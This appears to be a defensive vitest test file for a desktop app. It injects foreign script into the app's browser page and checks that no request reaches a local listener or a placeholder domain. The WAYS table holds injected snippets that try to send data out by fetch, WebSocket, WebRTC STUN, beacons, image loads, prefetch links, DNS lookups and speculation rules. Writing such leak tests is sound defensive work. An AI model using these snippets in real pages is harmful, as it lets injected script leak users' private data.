/**
 * @file Attack: foreign script in the page sends something to a listener on this very machine, by every way a browser
 * has. Impact: case text leaves the vault. The listener counts what reaches it; the page's own belief does not count. A name
 * that is looked up reaches no listener of ours: what the browser's processes ask of the system's network is followed too.
 */
import { createSocket, type Socket } from 'node:dgram';
import { createServer, type Server } from 'node:net';
import { join } from 'node:path';
import { setTimeout as wait } from 'node:timers/promises';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { launchApp, type RunningApp } from '../support/app.ts';
import { sending, watchConnections } from '../support/connections.ts';
import { processesBelow } from '../support/processes.ts';
import { temporaryFolder } from '../support/vault.ts';

let app: RunningApp;
let stream: Server;
let packets: Socket;
let port = 0;
const reached: string[] = [];
let watched: { stop(): Promise<string> };

beforeAll(async () => {
  stream = createServer((connection) => {
    reached.push('a connection');
    connection.destroy();
  });
  await new Promise<void>((resolve) => stream.listen(0, '127.0.0.1', resolve));
  port = (stream.address() as { port: number }).port;
  packets = createSocket('udp4').on('message', () => reached.push('a packet'));
  await new Promise<void>((resolve) => packets.bind(port, '127.0.0.1', resolve));
  app = await launchApp();
  const browser = processesBelow(app.program.pid as number).filter(({ command }) =>
    /^\S*chrom/.test(command),
  );
  expect(browser.length).toBeGreaterThan(2);
  const pids = browser.map(({ pid }) => pid);
  watched = await watchConnections(pids, join(temporaryFolder(), 'strace.log'));
});
afterAll(async () => {
  await watched?.stop();
  await app?.close();
  stream?.close();
  packets?.close();
});

const RTC = (makes: string) => `(async () => {
  const line = new ${makes}RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:PORT' }] });
  line.createDataChannel('x');
  await line.setLocalDescription(await line.createOffer());
})()`;
const LINK = (rel: string, place = '127.0.0.1') =>
  `(() => { const link = document.createElement('link'); link.rel = '${rel}'; link.href = 'http://${place}:PORT/x'; document.head.append(link); })()`;
/** Whoever keeps this zone would read the name of the case in what is asked for. */
const NAME = 'marrowgate.example.org';

const WAYS: Readonly<Record<string, string>> = {
  fetch: `fetch('http://127.0.0.1:PORT/?x', { mode: 'no-cors' })`,
  XMLHttpRequest: `(() => { const asked = new XMLHttpRequest(); asked.open('GET', 'http://127.0.0.1:PORT/'); asked.send(); })()`,
  WebSocket: `new WebSocket('ws://127.0.0.1:PORT/') && 0`,
  EventSource: `new EventSource('http://127.0.0.1:PORT/') && 0`,
  'a call between browsers': RTC(''),
  'the same from an empty frame, which no preload has been in': `(() => {
    const frame = document.createElement('iframe'); document.body.append(frame); ${RTC('frame.contentWindow.')}; })()`,
  WebTransport: `new WebTransport('https://127.0.0.1:PORT/').ready`,
  'a beacon': `navigator.sendBeacon('http://127.0.0.1:PORT/', 'x') && 0`,
  'a picture': `(() => { new Image().src = 'http://127.0.0.1:PORT/x.png'; })()`,
  preconnect: LINK('preconnect'),
  'a name looked up in advance': LINK('dns-prefetch', NAME),
  'a name looked up to connect in advance': LINK('preconnect', NAME),
  'a name looked up to fetch': `fetch('http://${NAME}:PORT/?x', { mode: 'no-cors' })`,
  'a name looked up for a picture': `(() => { new Image().src = 'http://${NAME}:PORT/x.png'; })()`,
  prefetch: LINK('prefetch'),
  'a style sheet': LINK('stylesheet'),
  'a page loaded in advance': `(() => { const rules = document.createElement('script'); rules.type = 'speculationrules';
    rules.textContent = '{"prefetch":[{"urls":["http://127.0.0.1:PORT/x"]}]}'; document.head.append(rules); })()`,
};

describe('the page reaches nobody', () => {
  it('the listener hears what does reach it', async () => {
    await fetch(`http://127.0.0.1:${port}/`).catch(() => undefined);
    expect(reached.splice(0)).not.toEqual([]);
  });

  it.each(Object.entries(WAYS))('by %s', async (_, script) => {
    await app.page.evaluate(
      `(async () => { try { await ${script.replaceAll('PORT', String(port))}; } catch {} })()`,
    );
    // Nothing tells when a packet has not been sent. The slowest of these, where it is let, sends within half a second.
    await wait(700);
    expect(reached).toEqual([]);
  });

  it('and the browser sent no packet to anybody meanwhile, name servers included', async () => {
    const calls = await watched.stop();
    expect(calls).toMatch(/send\w*\(\d+<UNIX/);
    expect(sending(calls)).toEqual([]);
  });
});
